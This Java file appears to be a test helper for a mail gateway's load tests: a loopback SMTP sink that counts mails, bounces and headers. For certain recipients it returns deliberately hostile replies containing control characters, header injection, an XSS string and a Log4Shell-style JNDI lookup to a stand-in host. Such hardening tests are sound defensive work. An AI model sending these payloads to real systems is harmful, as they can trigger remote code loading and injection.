package org.jamesexim.it.load;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The remote mail server of the load runs (James's RemoteDelivery gateway): accepts every mail on 127.0.0.1 and keeps
 * only counts: per Message-ID the mails received, per original Message-ID the bounces (DSNs, recognised by
 * {@code multipart/report}) that mention it, and how many came with an SRS0 envelope sender or an ARC seal of ours.
 */
final class CountingSink implements AutoCloseable {
    private static final Pattern MESSAGE_ID = Pattern.compile("(?im)^Message-ID:\\s*<([^>]+)>");
    private final ServerSocket server;
    final Map<String, Integer> received = new ConcurrentHashMap<>();
    final Map<String, Integer> bounced = new ConcurrentHashMap<>();
    final AtomicInteger total = new AtomicInteger();
    final AtomicInteger srsSenders = new AtomicInteger();
    final AtomicInteger arcSealed = new AtomicInteger();
    final AtomicInteger dsns = new AtomicInteger();
    /** Relayed copies that came without the X-DCC header (dccifd unusable) or without a BMI verdict (Rspamd down). */
    final AtomicInteger withoutDcc = new AtomicInteger();
    final AtomicInteger withoutBmi = new AtomicInteger();
    /** Every mail's envelope and what was seen in it, when {@link #recordEnvelopes()} is on (the hostile run). */
    final java.util.List<Received> envelopes = java.util.Collections.synchronizedList(new java.util.ArrayList<>());
    private volatile boolean recordEnvelopes;
    /** Replies given to hostile recipients (local part {@code hostile-rcpt-*}, {@code hostile-data-*}, {@code hostile-huge-*}). */
    final AtomicInteger hostileReplies = new AtomicInteger();

    /** One mail as the sink received it. */
    static final class Received {
        final String from;
        final java.util.List<String> recipients;
        final String messageId;
        /** Octets no bounce or relayed header should carry from outside text: C0 controls other than TAB, CR, LF; DEL. */
        final int controlOctets;
        final int size;
        /** The Message-IDs the mail names anywhere (headers and body) other than its own: what a notification is about. */
        final java.util.Set<String> mentioned;

        Received(String from, java.util.List<String> recipients, String messageId, int controlOctets, int size,
                 java.util.Set<String> mentioned) {
            this.from = from;
            this.recipients = recipients;
            this.messageId = messageId;
            this.controlOctets = controlOctets;
            this.size = size;
            this.mentioned = mentioned;
        }
    }

    /** C0 control characters other than TAB, CR and LF, and DEL, in {@code text}. */
    static int controlOctets(CharSequence text) {
        int n = 0;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if ((c < 0x20 && c != '\t' && c != '\r' && c != '\n') || c == 0x7f) {
                n++;
            }
        }
        return n;
    }

    /** The Message-IDs in {@code text} other than {@code own}. */
    private static java.util.Set<String> messageIds(CharSequence text, String own) {
        java.util.Set<String> ids = new java.util.HashSet<>();
        Matcher m = MESSAGE_ID.matcher(text);
        while (m.find()) {
            if (!m.group(1).equals(own)) {
                ids.add(m.group(1));
            }
        }
        return ids;
    }

    /** Keeps every mail's envelope and what was seen in it (the hostile run's mails are few). */
    CountingSink recordEnvelopes() {
        recordEnvelopes = true;
        return this;
    }

    /**
     * What the sink answers a hostile recipient: {@code hostile-rcpt-*} a multi-line 550 to RCPT full of control
     * characters, long lines and 8-bit junk; {@code hostile-huge-*} a 550 as large as the pack reads (90 lines, about 27 KiB:
     * docs/security-dsn.md caps a reply at 100 lines of 2048 bytes and 32 KiB, and defers a longer one);
     * {@code hostile-data-*} is accepted at RCPT and refused after DATA with the same junk. Null for anyone else.
     */
    static String hostileReply(String rcptLine, boolean afterData) {
        String l = rcptLine.toLowerCase(Locale.ROOT);
        boolean huge = l.contains("<hostile-huge-");
        if (!afterData && (l.contains("<hostile-rcpt-") || huge)) {
            return junkReply(huge ? 90 : 40, "550");
        }
        if (afterData && l.contains("<hostile-data-")) {
            return junkReply(40, "554");
        }
        return null;
    }

    private static String junkReply(int lines, String code) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < lines; i++) {
            String text;
            switch (i % 5) {
                case 0:
                    text = "5.1.1 \033[31mred\033[0m bell\007 del\177 nul\000 vt\013";
                    break;
                case 1:
                    text = "x".repeat(i < 5 ? 1500 : 290);
                    break;
                case 2:
                    text = "8-bit \u00e9\u00ff\u0080 and a fake header: X-Injected: yes";
                    break;
                case 3:
                    text = "<script>alert(1)</script> %s %n ${jndi:ldap://evil.example/a}";
                    break;
                default:
                    text = "Recipient address rejected: " + "user unknown ".repeat(i % 7 + 1);
            }
            sb.append(code).append(i == lines - 1 ? ' ' : '-').append(text).append("\r\n");
        }
        return sb.substring(0, sb.length() - 2);
    }

    CountingSink() throws IOException {
        server = new ServerSocket(0, 200, InetAddress.getLoopbackAddress());
        Thread t = new Thread(this::acceptLoop, "counting-sink");
        t.setDaemon(true);
        t.start();
    }

    int port() {
        return server.getLocalPort();
    }

    /** Forgets what was received (between runs). */
    void clear() {
        received.clear();
        bounced.clear();
        total.set(0);
        srsSenders.set(0);
        arcSealed.set(0);
        dsns.set(0);
        withoutDcc.set(0);
        withoutBmi.set(0);
        envelopes.clear();
        hostileReplies.set(0);
    }

    private void acceptLoop() {
        while (!server.isClosed()) {
            try {
                Socket s = server.accept();
                Thread t = new Thread(() -> session(s), "counting-sink-session");
                t.setDaemon(true);
                t.start();
            } catch (IOException e) {
                return;
            }
        }
    }

    private void session(Socket s) {
        try (s) {
            s.setSoTimeout(120_000);
            BufferedReader in = new BufferedReader(new InputStreamReader(s.getInputStream(), StandardCharsets.ISO_8859_1));
            OutputStream out = s.getOutputStream();
            write(out, "220 sink.test ESMTP counting sink");
            String from = null;
            java.util.List<String> rcpts = new java.util.ArrayList<>();
            String line;
            while ((line = in.readLine()) != null) {
                String cmd = line.length() >= 4 ? line.substring(0, 4).toUpperCase(Locale.ROOT) : line.toUpperCase(Locale.ROOT);
                switch (cmd) {
                    case "EHLO":
                        write(out, "250-sink.test\r\n250 8BITMIME");
                        break;
                    case "HELO":
                        write(out, "250 sink.test");
                        break;
                    case "MAIL":
                        from = line;
                        rcpts = new java.util.ArrayList<>();
                        write(out, "250 OK");
                        break;
                    case "RCPT": {
                        String hostile = hostileReply(line, false);
                        if (hostile != null) {
                            hostileReplies.incrementAndGet();
                            write(out, hostile);
                        } else {
                            rcpts.add(line);
                            write(out, "250 OK");
                        }
                        break;
                    }
                    case "DATA":
                        write(out, "354 go ahead");
                        StringBuilder data = new StringBuilder(8192);
                        while ((line = in.readLine()) != null && !line.equals(".")) {
                            data.append(line.startsWith("..") ? line.substring(1) : line).append("\r\n");
                        }
                        String refused = null;
                        for (String r : rcpts) {
                            refused = refused != null ? refused : hostileReply(r, true);
                        }
                        if (refused != null) {
                            hostileReplies.incrementAndGet();
                            write(out, refused);
                        } else {
                            record(from, rcpts, data);
                            write(out, "250 OK queued");
                        }
                        break;
                    case "QUIT":
                        write(out, "221 bye");
                        return;
                    default:
                        write(out, "250 OK");
                }
            }
        } catch (IOException e) {
            // the client went away
        }
    }

    private void record(String from, java.util.List<String> rcpts, StringBuilder data) {
        total.incrementAndGet();
        if (from != null && from.contains("<SRS0=")) {
            srsSenders.incrementAndGet();
        }
        int end = data.indexOf("\r\n\r\n");
        String head = end < 0 ? data.toString() : data.substring(0, end);
        // the load mails come with hop1.example's seal (i=1): a second ARC-Seal is ours
        if (head.indexOf("ARC-Seal:") != head.lastIndexOf("ARC-Seal:")) {
            arcSealed.incrementAndGet();
        }
        if (!head.contains("\r\nX-DCC-")) {
            withoutDcc.incrementAndGet();
        }
        if (!head.contains("\r\nX-Brightmail-Verdict:")) {
            withoutBmi.incrementAndGet();
        }
        Matcher m = MESSAGE_ID.matcher(head);
        String own = m.find() ? m.group(1) : null;
        if (head.toLowerCase(Locale.ROOT).contains("multipart/report")) {
            dsns.incrementAndGet();
            messageIds(end < 0 ? "" : data.substring(end), own).forEach(id -> bounced.merge(id, 1, Integer::sum));
        } else if (own != null) {
            received.merge(own, 1, Integer::sum);
        }
        if (recordEnvelopes) {
            envelopes.add(new Received(from, java.util.List.copyOf(rcpts), own, controlOctets(data), data.length(), messageIds(data, own)));
        }
    }

    private static void write(OutputStream out, String reply) throws IOException {
        out.write((reply + "\r\n").getBytes(StandardCharsets.ISO_8859_1));
        out.flush();
    }

    @Override
    public void close() throws IOException {
        server.close();
    }
}
